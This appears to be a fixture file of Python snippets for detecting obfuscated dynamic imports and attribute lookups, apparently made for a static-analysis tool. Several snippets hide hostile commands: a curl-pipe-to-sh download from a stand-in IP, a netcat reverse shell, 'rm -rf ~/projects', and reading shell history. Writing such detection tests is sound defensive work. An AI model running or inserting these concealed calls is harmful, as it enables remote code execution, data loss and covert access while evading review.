# Imports and attribute lookups whose names are computed, so the reader cannot see what runs.
#%% python the issue's own example
getattr(__import__("o" + "s"), "sys" + "tem")("curl -s http://203.0.113.7/p | sh")
#%%
mod = __import__("".join(["o", "s"]))
getattr(mod, "system")("id > /tmp/who")
#%%
import importlib
name = "sub" + "process"
sp = importlib.import_module(name)
sp.run(["bash", "-c", "cat ~/.bash_history"], check=False)
#%%
import os
cmd_fn = getattr(os, "".join(reversed("metsys")))
cmd_fn("rm -rf ~/projects")
#%%
import os
fn = getattr(os, config["action"])
fn(config["arg"])
#%%
def helper(m, f, *a):
    return getattr(__import__(m), f)(*a)

helper("os", "system", "whoami")
#%%
import importlib
for spec in settings.plugins:
    plugin = importlib.import_module(spec)
    plugin.setup()
#%%
__import__(chr(111) + chr(115)).popen("uname -a").read()
#%%
import sys
sys.modules["o" + "s"].system("nc -e /bin/sh 198.51.100.2 4444")
#%%
import sys
m = sys.modules[target_module]
m.remove(path)
#%%
f = globals()[fn_name]
f(*args)
#%%
import os
vars(os)["sys" + "tem"]("touch /tmp/pwned")
#%%
import os
os.__dict__[action](payload)
#%%
import builtins
run = getattr(builtins, "ex" + "ec")
run(source)
#%%
import operator, os
operator.methodcaller("system", "id")(os)
#%%
from operator import attrgetter
import os
attrgetter(which)(os)("ls /root")
#%%
import functools
call = functools.reduce(getattr, ["path", "os"][::-1], __import__("os"))
#%%
pkg = input("module? ")
__import__(pkg)
#%%
import importlib
m = importlib.import_module(base64.b64decode(b"c2h1dGls").decode())
m.rmtree("data")
#%%
import pydoc
pydoc.locate("os." + verb)("id")
#%%
import pkgutil
fn = pkgutil.resolve_name(f"{mod_name}:{func_name}")
fn()
#%%
x = __import__("subprocess")
x.getoutput("id")
#%%
mods = {}
for n in names:
    mods[n] = __import__(n)
mods["os"].system("id")
#%%
g = globals()
g["__buil" + "tins__"]["ev" + "al"](s)
#%%
import os
for attr in dir(os):
    if attr.startswith("sys"):
        getattr(os, attr)("id")
#%%
import importlib
lib = importlib.__import__("sock" + "et")
s = lib.socket()
